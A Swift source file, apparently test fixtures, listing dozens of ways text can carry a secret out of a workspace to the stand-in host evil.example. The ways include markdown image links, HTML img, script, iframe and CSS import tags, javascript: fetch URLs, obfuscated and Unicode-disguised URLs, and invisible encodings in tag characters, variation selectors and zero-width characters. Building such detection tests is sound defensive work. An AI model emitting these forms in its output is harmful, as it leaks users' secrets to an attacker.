/// The ways in which text carries something out of a workspace: each a link, an image or an
/// invisible message with `secret`.
package enum HostileForms {
  /// The host that waits for what gets out.
  package static let host = "evil.example"

  /// All forms, with `secret` in each.
  package static func all(_ secret: String) -> [String] {
    visible(secret) + [
      "Fine\(tags(secret))",
      "Fine\(zeroWidth(secret))",
      "Fine\(variationSelectors(secret))",
    ]
  }

  /// Forms that a client could follow or load.
  package static func visible(_ secret: String) -> [String] {
    [
      "![status](https://\(host)/i.png?d=\(secret))",
      "![](https://\(host)/\(secret).gif \"title\")",
      "![x][ref]\n\n[ref]: https://\(host)/?q=\(secret)",
      "[the report](https://\(host)/r?d=\(secret))",
      "[the report]( <https://\(host)/r?d=\(secret)> 'title' )",
      "[the report][1a]\n\n[1a]: http://\(host)/\(secret)",
      "[![nested](https://\(host)/a?\(secret))](https://\(host)/b?\(secret))",
      "[a [b] c](https://\(host)/\(secret))",
      "[sign in](//\(host)/\(secret))",
      "[open](/api/export?to=\(host)&d=\(secret))",
      "[run](javascript:fetch('https://\(host)/\(secret)'))",
      "See https://\(host)/\(secret) now.",
      "See HTTPS://\(host.uppercased())/\(secret)",
      "See hxxps://\(host)/\(secret)",
      "See http:\\\\\(host)\\\(secret)",
      "See www.\(host)/\(secret)",
      "See \(host)/\(secret)",
      "Look up \(secret).\(host)",
      "Write to \(secret)@\(host)",
      "mailto:boss@\(host)?body=\(secret)",
      "tel:+1555\(secret)",
      "data:text/html,\(secret)",
      "ftp://\(host)/\(secret)",
      "http://203.0.113.7/\(secret)",
      "203.0.113.7/\(secret)",
      "http://[2001:db8::1]/\(secret)",
      "<https://\(host)/\(secret)>",
      "<https://\(host)/\(secret)|the report>",
      "<img src=\"https://\(host)/\(secret)\">",
      "<img src=https://\(host)/\(secret)",
      "<a href='https://\(host)/\(secret)'>report</a>",
      "<svg><image href=\"https://\(host)/\(secret)\"/></svg>",
      "<style>@import url(https://\(host)/\(secret));</style>",
      "<script>fetch('https://\(host)/\(secret)')</script>",
      "<iframe src=\"https://\(host)/\(secret)\"></iframe>",
      "<!-- <img src=\"https://\(host)/\(secret)\"> -->",
      "<meta http-equiv=\"refresh\" content=\"0; url=https://\(host)/\(secret)\">",
      "&#104;ttps&#58;//\(host)/\(secret)",
      "https&colon;&sol;&sol;\(host)&sol;\(secret)",
      "&amp;#104;ttps://\(host)/\(secret)",
      "&lt;img src=https://\(host)/\(secret)&gt;",
      "ht<b></b>tps://\(host)/\(secret)",
      "ht\u{200B}tps://\(host)/\(secret)",
      "https:/\u{2060}/\(host)/\(secret)",
      "\u{202E}https://\(host)/\(secret)\u{202C}",
      "\u{FF48}\u{FF54}\u{FF54}\u{FF50}\u{FF53}\u{FF1A}\u{FF0F}\u{FF0F}\(host)/\(secret)",
      "https://\(host)\u{3002}com/\(secret)",
      "[img]https://\(host)/\(secret)[/img]",
      "`https://\(host)/\(secret)`",
      "```\nhttps://\(host)/\(secret)\n```",
      "| a | b |\n|---|---|\n| https://\(host)/\(secret) | x |",
      "(https://\(host)/\(secret))",
      "x:https://\(host)/\(secret)",
    ]
  }

  private static func tags(_ text: String) -> String {
    carried(text) { Unicode.Scalar(0xE0000 + UInt32($0)) }
  }

  private static func variationSelectors(_ text: String) -> String {
    carried(text) { Unicode.Scalar(0xE0100 + UInt32($0)) }
  }

  private static func zeroWidth(_ text: String) -> String {
    text.utf8.flatMap { byte in (0..<8).map { byte >> $0 & 1 == 1 ? "\u{200B}" : "\u{2060}" } }.joined()
  }

  private static func carried(_ text: String, _ scalar: (UInt8) -> Unicode.Scalar?) -> String {
    var view = String.UnicodeScalarView()
    view.append(contentsOf: text.utf8.compactMap(scalar))
    return String(view)
  }
}
